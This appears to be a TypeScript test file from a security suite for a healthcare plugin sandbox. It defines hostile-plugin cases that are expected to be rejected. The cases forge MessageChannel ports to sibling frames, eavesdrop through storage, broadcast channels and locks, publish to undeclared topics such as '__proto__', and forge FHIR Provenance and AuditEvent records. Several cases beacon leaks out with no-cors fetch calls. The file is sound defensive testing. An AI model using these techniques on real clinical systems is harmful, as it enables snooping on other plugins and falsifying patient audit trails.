import type { FrameAttack } from '../attack-case.ts';
import type { AttackEvidence } from '../evidence.ts';
import { allOf, nothingLeaked, nothingWritten, realmIntact } from '../verdicts.ts';
import { note } from './note.ts';

const neighbourServed = ({ realm }: AttackEvidence) =>
  realm.opened.includes('neighbour:served') ? undefined : 'the honest plugin beside it is no longer served';

/** Rows 26 and 28: other plugins, and the record of who did what. */
export const NEIGHBOURS: readonly FrameAttack[] = [
  {
    id: 't26-forged-offer',
    threat: 26,
    kind: 'frame',
    title: 'Offers a port of its own to every frame beside it, as if it were the workplace',
    rejected: 'No plugin says anything on that port.',
    control: 'handshake-off',
    setting: 'neighbour',
    act: async (kit) => {
      await kit.join();
      const siblings = Array.from(
        { length: window.parent.length },
        (_, index) => window.parent[index] as Window,
      );
      for (const sibling of siblings) {
        if (sibling === window) continue;
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = () => void fetch(kit.leakUrl('called-by-neighbour'), { mode: 'no-cors' });
        const session = { context: null, locale: 'da', online: true, view: 'main', capabilities: [] };
        sibling.postMessage({ samspil: 'port', nonce: kit.nonce, protocol: 1, session }, '*', [port2]);
        port1.postMessage({ samspil: 'ping' });
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
    },
    verdict: allOf(realmIntact, nothingLeaked, neighbourServed),
  },
  {
    id: 't26-shared-storage',
    threat: 26,
    kind: 'frame',
    title: 'Listens for its neighbour in storage, broadcast channels, locks and window messages',
    rejected: 'Nothing is heard, since nothing is shared.',
    setting: 'neighbour',
    act: async (kit) => {
      await kit.join();
      const heard = (what: string) => void fetch(kit.leakUrl(what), { mode: 'no-cors' });
      window.addEventListener('storage', () => heard('storage'));
      const channel = new BroadcastChannel('samspil-receipts');
      channel.onmessage = () => heard('channel');
      window.addEventListener('message', (event) => {
        if (event.source !== window.parent) heard('message');
      });
      const locks = await navigator.locks?.query().catch(() => undefined);
      if (locks?.held?.some(({ name }) => name?.startsWith('samspil'))) heard('lock');
      await new Promise((resolve) => setTimeout(resolve, 200));
    },
    verdict: allOf(realmIntact, nothingLeaked, neighbourServed),
  },
  {
    id: 't26-topic-not-declared',
    threat: 26,
    kind: 'frame',
    title: 'Publishes on the bus, and to topics that it did not declare',
    rejected: 'Nothing reaches another plugin.',
    setting: 'neighbour',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      for (const topic of ['vitals.measured', 'receipts', '*', '__proto__'])
        await kit.call('bus.publish', { lease, topic, message: { text: 'forged-for-the-neighbour' } });
    },
    verdict: allOf(realmIntact, neighbourServed, ({ sent }) =>
      sent.some((text) => text.includes('forged-for-the-neighbour'))
        ? 'it reached another plugin'
        : undefined,
    ),
  },
  {
    id: 't28-forged-provenance',
    threat: 28,
    kind: 'frame',
    title: 'Saves a Provenance that says somebody else, and another plugin, recorded it',
    rejected: 'It is not written; what is written names the signed-in user and this plugin.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const { patient, observation } = kit.facts;
      const forged = {
        resourceType: 'Provenance',
        target: [{ reference: `Observation/${observation}` }],
        recorded: '2026-01-15T08:00:00Z',
        agent: [{ who: { reference: 'Practitioner/forged' } }],
      };
      const resources = [note(kit.facts, patient)];
      await kit.call('fhir.save', { lease, operationId: crypto.randomUUID(), resources: [forged] });
      await kit.call('fhir.save', {
        lease,
        operationId: crypto.randomUUID(),
        resources: [...resources, forged],
      });
      await kit.call('fhir.save', {
        lease,
        operationId: crypto.randomUUID(),
        resources,
        author: { reference: 'Practitioner/forged' },
        plugin: { id: 'other-plugin', version: '9.9.9' },
      });
      await kit.call('fhir.save', { lease, operationId: crypto.randomUUID(), resources });
    },
    verdict: allOf(realmIntact, stamped),
  },
  {
    id: 't28-forged-audit-event',
    threat: 28,
    kind: 'frame',
    title: 'Writes an AuditEvent about what somebody else is said to have done',
    rejected: 'It is not written.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const forged = {
        resourceType: 'AuditEvent',
        type: { system: 'https://samspil.dk/attack', code: kit.facts.mark },
        recorded: '2026-01-15T08:00:00Z',
        agent: [{ requestor: true, who: { reference: 'Practitioner/forged' } }],
        source: { observer: { display: 'x' } },
        entity: [{ what: { reference: `Patient/${kit.facts.patient}` } }],
      };
      await kit.call('fhir.save', { lease, operationId: crypto.randomUUID(), resources: [forged] });
    },
    verdict: allOf(realmIntact, nothingWritten, ({ requests }) =>
      requests.some(({ method, url }) => method === 'POST' && url.startsWith('/fhir/AuditEvent'))
        ? 'an AuditEvent was sent'
        : undefined,
    ),
  },
  {
    id: 't28-unstamped-write',
    threat: 28,
    kind: 'frame',
    title: 'Saves something, hoping that nobody will know which plugin it was',
    rejected: 'It is written with a Provenance that names the user, the plugin and its version.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const resources = [note(kit.facts, kit.facts.patient)];
      await kit.call('fhir.save', { lease, operationId: crypto.randomUUID(), resources });
    },
    verdict: allOf(realmIntact, stamped),
  },
];

/** Every write names its plugin, and nobody who was not there. */
function stamped({ writes }: AttackEvidence): string | undefined {
  if (writes.length === 0) return 'nothing was written, so nothing could be stamped';
  for (const { resourceType, agents, software } of writes) {
    if (agents.some((agent) => agent.includes('forged'))) return 'a forged agent was written';
    if (software.some((name) => name.includes('other-plugin'))) return 'a forged plugin was written';
    if (agents.length === 0 || !software.some((name) => name.includes('attacker')))
      return `a ${resourceType} was written without saying by whom`;
  }
  return undefined;
}
